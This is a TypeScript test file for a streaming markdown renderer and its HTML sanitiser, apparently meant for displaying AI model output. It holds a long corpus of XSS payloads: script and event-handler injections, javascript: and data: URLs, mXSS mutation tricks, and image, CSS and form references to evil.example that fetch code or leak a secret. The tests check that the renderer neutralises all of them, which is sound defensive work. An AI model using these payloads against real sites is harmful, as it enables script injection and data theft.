import { beforeEach, describe, expect, it, vi } from "vitest";
import { MarkdownStream } from "./markdown_stream";
import { highlightNodes, inlineNodes } from "./sanitizer";
import { random, pieces } from "./testing/samples";

/** What attackers write, as markdown or inside it. */
const corpus: string[] = [
  "<script>hit()</script>",
  "<ScRiPt src=//evil.example/x.js></sCrIpT>",
  "<img src=x onerror=hit()>",
  "<img src='x' onerror=\"hit()\" />",
  '<svg onload=hit()><path d="M0 0"/></svg>',
  "<svg><script>hit()</script></svg>",
  "<svg><animate onbegin=hit() attributeName=x dur=1s>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">',
  "<iframe src=javascript:hit()></iframe>",
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  "<object data=javascript:hit()></object><embed src=javascript:hit()>",
  "<style>@import url(https://evil.example/x.css);*{background:url(https://evil.example/b)}</style>",
  '<link rel=stylesheet href=https://evil.example/x.css><meta http-equiv=refresh content="0;url=https://evil.example">',
  "<base href=https://evil.example/>",
  "<form action=https://evil.example><input name=key autofocus onfocus=hit()><button formaction=javascript:hit()>x</button></form>",
  "<a href=javascript:hit()>x</a>",
  '<a href="https://evil.example" target=_blank onclick=hit()>x</a>',
  "<details open ontoggle=hit()>x</details>",
  "<video src=x onerror=hit() autoplay><source onerror=hit()></video><audio src=x onerror=hit()>",
  "<body onload=hit()><marquee onstart=hit()>x</marquee>",
  "<div style=\"background:url('https://evil.example/a')\">x</div>",
  '<template><script>hit()</script></template><noscript><p title="</noscript><img src=x onerror=hit()>">',
  "<p id=cookie name=body><a id=body><a id=body name=createElement>",
  "[x](javascript:hit())",
  "[x](JaVaScRiPt:hit())",
  "[x](java\tscript:hit())",
  "[x](\u0001javascript:hit())",
  "[x](&#106;avascript:hit())",
  "[x](&#x6A;&#x61;vascript&colon;hit())",
  "[x](javascript&#58;hit())",
  "[x](<javascript:hit()>)",
  "[x](  javascript:hit())",
  "[x](vbscript:hit())",
  "[x](data:text/html,<script>hit()</script>)",
  "[x](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)",
  "[x](file:///etc/passwd)",
  "[x](tauri://localhost/index.html)",
  "[x](blob:https://a.example/1)",
  "[x](//evil.example/x)",
  "[x](https:evil.example)",
  '[x](https://a.example "onmouseover=hit() x=\\"")',
  '[x](https://a.example/"onmouseover="hit()")',
  "[x](https://a.example/'><img src=x onerror=hit()>)",
  "[<img src=x onerror=hit()>](https://a.example)",
  "[![x](https://evil.example/i.png)](javascript:hit())",
  "[x][r]\n\n[r]: javascript:hit()",
  '[x][r]\n\n[r]: data:text/html,<script>hit()</script> "t"',
  "<javascript:hit()>",
  '<https://a.example/" onclick=hit()>',
  "![x](https://evil.example/?leak=secret)",
  "![x](javascript:hit())",
  "![x](data:image/svg+xml,<svg onload=hit()>)",
  "![x](data:image/png;base64,iVBORw0KGgo=)",
  '![" onerror="hit()](https://a.example/x.png)',
  "![x][i]\n\n[i]: https://evil.example/i.png",
  '```js"><img src=x onerror=hit()>\ncode\n```',
  "```html\n<script>hit()</script><img src=x onerror=hit()>\n```",
  "```xml\n<svg onload=hit()>]]><!--\n```",
  "`<img src=x onerror=hit()>`",
  "| <img src=x onerror=hit()> | b |\n|---|---|\n| <script>hit()</script> | [x](javascript:hit()) |",
  "- <script>hit()</script>\n  - [x](javascript:hit())",
  "> <img src=x onerror=hit()>\n> ![x](https://evil.example/i.png)",
  "# <script>hit()</script>",
  "&lt;script&gt;hit()&lt;/script&gt; &#60;img src=x onerror=hit()&#62;",
  "&amp;lt;img src=x onerror=hit()&amp;gt;",
  "\\<script>hit()\\</script>",
  "<!--><img src=x onerror=hit()>-->",
  "<![CDATA[<img src=x onerror=hit()>]]>",
  "<?xml-stylesheet href=javascript:hit()?>",
  "<x onclick=hit()>custom</x><x-y is=z onfocus=hit() tabindex=1>",
  "<scr\u0000ipt>hit()</scr\u0000ipt>",
  "<<script>script>hit()<</script>/script>",
  "<img src=`x`onerror=hit()>",
  "\u202Egnp.exe [https://good.example](https://evil.example)",
  "**<b onmouseover=hit()>x</b>** *[y](data:,x)* ~~<i style=x:expression(hit())>z</i>~~",
];

const TAGS = new Set(
  "P H1 H2 H3 H4 H5 H6 UL OL LI BLOCKQUOTE DIV TABLE THEAD TBODY TR TH TD HR PRE CODE SPAN A STRONG EM S BR BUTTON".split(
    " ",
  ),
);
const ATTRIBUTES = new Set(
  "class start role tabindex title type aria-label data-url data-copy data-caret".split(" "),
);

function expectHarmless(root: ParentNode, source: string): void {
  for (const element of root.querySelectorAll("*")) {
    expect(TAGS.has(element.tagName), `${element.tagName} from ${source}`).toBe(true);
    for (const { name, value } of element.attributes) {
      expect(ATTRIBUTES.has(name), `${name} from ${source}`).toBe(true);
      if (name === "data-url") expect(value, source).toMatch(/^(https?:\/\/[^/]|mailto:)/);
    }
    if (element.tagName === "BUTTON") expect(element.getAttribute("type")).toBe("button");
  }
}

const hit = vi.fn();
beforeEach(() => {
  hit.mockClear();
  vi.stubGlobal("hit", hit);
});

async function settle(): Promise<void> {
  await new Promise((resolve) => setTimeout(resolve, 0));
}

describe("model output", () => {
  it.each(corpus.map((text) => [text]))("stays harmless: %j", async (text) => {
    const root = document.createElement("div");
    document.body.append(root);
    const made = new MarkdownStream(root);
    for (const piece of pieces(text, random(text.length), 6)) {
      made.append(piece);
      made.paint();
      expectHarmless(root, text);
    }
    made.end();
    expectHarmless(root, text);
    for (const element of root.querySelectorAll<HTMLElement>("*")) element.click();
    await settle();
    expect(hit).not.toHaveBeenCalled();
    root.remove();
  });

  it("stays harmless when attacks are mixed and cut anywhere", () => {
    for (let seed = 1; seed <= 15; seed += 1) {
      const draw = random(seed);
      let text = "";
      for (let i = 0; i < 6; i += 1)
        text += (corpus[Math.floor(draw() * corpus.length)] ?? "") + (draw() < 0.5 ? "\n" : "");
      const root = document.createElement("div");
      const made = new MarkdownStream(root);
      for (const piece of pieces(text, draw, 25)) {
        made.append(piece);
        made.paint();
        expectHarmless(root, text);
      }
      made.end();
      expectHarmless(root, text);
    }
  }, 30_000);

  it("has nothing a browser would fetch or follow", () => {
    const root = document.createElement("div");
    const made = new MarkdownStream(root);
    made.append(
      "![a](https://evil.example/a.png) [b](https://b.example)\n\n<img src=https://evil.example/c>",
    );
    made.end();
    expect(
      root.querySelector("[src],[srcset],[href],[style],[background],[poster],[action]"),
    ).toBeNull();
    expect(root.textContent).toContain("image “a”: evil.example (not loaded)");
  });

  it("shows where a link really goes when its text names another place", () => {
    const root = document.createElement("div");
    const made = new MarkdownStream(root);
    made.append(
      "[https://good.example](https://evil.example/x) and [пример](https://пример.example)",
    );
    made.end();
    const hosts = [...root.querySelectorAll(".md-host")].map((it) => it.textContent.trim());
    expect(hosts).toEqual(["evil.example", "xn--e1afmkfd.example"]);
  });
});

describe("the sanitiser alone, should the parser ever let HTML through", () => {
  it.each(corpus.map((text) => [text]))("leaves nothing dangerous of %j", (text) => {
    expectHarmless(inlineNodes(text), text);
    expectHarmless(
      inlineNodes(
        `<a data-url="javascript:hit()">x</a><span class="md-image" data-url="javascript:hit()">y</span>${text}`,
      ),
      text,
    );
    for (const element of highlightNodes(text).querySelectorAll("*")) {
      expect(element.tagName).toBe("SPAN");
      expect([...element.attributes].every((it) => it.name === "class")).toBe(true);
    }
  });
});
